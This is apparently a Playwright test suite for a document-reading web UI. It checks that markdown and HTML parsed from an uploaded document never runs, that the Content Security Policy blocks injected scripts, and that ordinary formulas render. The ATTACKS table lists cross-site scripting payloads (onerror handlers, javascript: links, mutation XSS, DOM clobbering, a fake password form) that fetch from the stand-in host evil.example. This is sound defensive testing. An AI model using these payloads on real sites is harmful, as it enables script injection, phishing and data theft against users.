"""A document is a stranger: whatever it says, nothing of it runs, and nobody is told."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.ui.browser import choose
from tests.ui.crafted_triton import block
from tests.unit.gateway.documents import encoded, picture

EVIL = "http://evil.example/"
RUN = f"window.ran=1;fetch('{EVIL}')"
ATTACKS = {
    "a script": f"<script>{RUN}</script>",
    "a script in a heading": f'# Title <img src=x onerror="{RUN}"> <script>{RUN}</script>',
    "a script in a table": f'<table><tr><td onclick="{RUN}"><script>{RUN}</script></td></tr></table>',
    "a drawing": f'<svg onload="{RUN}"><script>{RUN}</script><use href="{EVIL}#x"/></svg>',
    "a frame": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "a link": f'[press](javascript:{RUN}) <a href="jAvAsCrIpT:{RUN}">press</a> <a href="data:text/html,x">press</a>',
    "an image elsewhere": f"![a]({EVIL}) <img src='//evil.example/b' srcset='{EVIL} 1x'>",
    "a style": f"<style>@import '{EVIL}'; body{{display:none}}</style>"
    f'<p style="background:url({EVIL});position:fixed">x</p>',
    "a form": f"<form action={EVIL}><input name=password><button>Sign in</button></form>",
    "a base": f"<base href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'>",
    "a formula": rf"$\href{{javascript:{RUN}}}{{x}}$ $\includegraphics{{{EVIL}}}$ $\htmlStyle{{color:red}}{{y}}$",
    "a formula in an attribute": f'$"><img src=x onerror="{RUN}">$',
    "a mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "clobbering": "<img name=getElementById><a id=app></a><form id=documentElement></form>",
    "an object": f"<object data={EVIL}></object><embed src={EVIL}><video src={EVIL}>",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_nothing_of_a_document_runs(serve, open_ui, triton, attack):
    triton.markdown = f"before\n\n{attack}\n\nafter"
    triton.blocks = [block(attack), block(attack, f'<img src=x onerror="{RUN}">', at=1)]
    watched = open_ui(serve())
    page = watched.page
    choose(
        page,
        {"name": f"<img src=x onerror={RUN}>.png", "mimeType": "image/png", "buffer": encoded(picture((400, 300)))},
    )
    page.get_by_role("button", name="Read", exact=True).click()
    expect(page.locator(".status.is-good")).to_be_visible()
    parts = page.locator(".markdown")
    expect(parts).to_contain_text("before")
    expect(parts).to_contain_text("after")
    watched.keep("hostile-last")
    for box in page.locator(".box").all():
        box.hover()
        box.click()
    for tab in ("Markdown", "JSON", "Text"):
        page.get_by_role("tab", name=tab).click()
    for part in page.locator(".markdown :is(td, p, a, span)").all():
        part.dispatch_event("click")
    page.wait_for_timeout(100)

    assert page.evaluate("window.ran") is None
    inside = page.locator(".markdown")
    assert (
        inside.locator("script, iframe, object, embed, form, input, style, base, meta, link, video, svg script").count()
        == 0
    )
    attributes = inside.evaluate(
        "element => [...element.querySelectorAll('*')].flatMap((one) => [...one.attributes].map((a) => a.name))"
    )
    assert [name for name in attributes if name.startswith("on") or name in ("srcset", "srcdoc", "formaction")] == []
    for link in inside.locator("a[href]").all():
        assert link.get_attribute("href").startswith(("http://", "https://", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert [
        src for src in inside.locator("img").evaluate_all("all => all.map((one) => one.src)") if "evil" in src
    ] == []
    assert page.url.endswith("/ui")
    # The browser tells of what it refuses while the text is parsed, apart from the page, to be cleaned.
    watched.complaints[:] = [text for text in watched.complaints if "Content Security Policy" not in text]


def test_the_policy_holds_even_where_a_script_comes_past(serve, open_ui):
    """What the cleaning is for is forbidden a second time, by the browser."""
    watched = open_ui(serve())
    outcome = watched.page.evaluate(
        """async () => {
            const refused = [];
            document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
            const script = document.createElement("script");
            try { script.textContent = "window.ran = 1"; } catch { refused.push("types"); }
            document.body.append(script);
            try { document.body.innerHTML += "<img src=x onerror='window.ran = 1'>"; } catch { refused.push("types"); }
            await fetch("http://evil.example/").catch(() => {});
            const image = new Image();
            image.src = "http://evil.example/a.png";
            await new Promise((resolve) => setTimeout(resolve, 200));
            return [window.ran ?? null, refused];
        }"""
    )
    assert outcome[0] is None
    assert {"connect-src", "img-src", "types"} <= set(outcome[1])
    watched.complaints.clear()
    watched.requests[:] = [url for url in watched.requests if "evil.example" not in url]


def test_what_is_honest_is_drawn(serve, open_ui, triton):
    name = "imgs/img_in_image_box_60_120_360_150.jpg"
    triton.markdown = (
        "# A title\n\nMass is energy: $E = mc^2$, money is $5 and $10, and so is $ a_1 $.\n\n"
        "$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n"
        f'<div style="text-align: center;"><img src="{name}" alt="Image" width="50%" /></div>\n\n'
        "<table border=1 style='margin: auto;'><tr>"
        "<td style='text-align: right;'>$x_2$</td><td colspan=\"2\">b</td></tr></table>"
    )
    triton.blocks = [
        block("A title", "doc_title"),
        block("Mass is energy: $E = mc^2$, money is $5 and $10, and so is $ a_1 $.", at=1),
        block("", "image", at=2),
    ]
    triton.crops = {name: encoded(picture((90, 60)), "JPEG")}
    watched = open_ui(serve(), scheme="dark")
    page = watched.page
    choose(page, {"name": "page.png", "mimeType": "image/png", "buffer": encoded(picture((420, 300)))})
    page.get_by_role("button", name="Read", exact=True).click()
    markdown = page.locator(".markdown")
    expect(markdown.locator("h1")).to_have_text("A title")
    expect(markdown.locator(".katex")).to_have_count(4)
    expect(markdown.locator(".katex-display")).to_have_count(1)
    expect(markdown.locator("td .katex")).to_have_count(1)
    expect(markdown).to_contain_text("money is $5 and $10")
    assert markdown.locator("td").first.get_attribute("align") == "right"
    assert markdown.locator("td").last.get_attribute("colspan") == "2"
    image = markdown.locator("img")
    assert image.get_attribute("src").startswith("blob:")
    assert image.evaluate("image => image.naturalWidth") == 90
    assert page.evaluate("document.fonts.check('16px KaTeX_Math')")
    page.locator('.box[data-kind="picture"]').click()
    expect(page.locator(".part.is-selected img")).to_be_visible()
    watched.keep("formulas-dark")
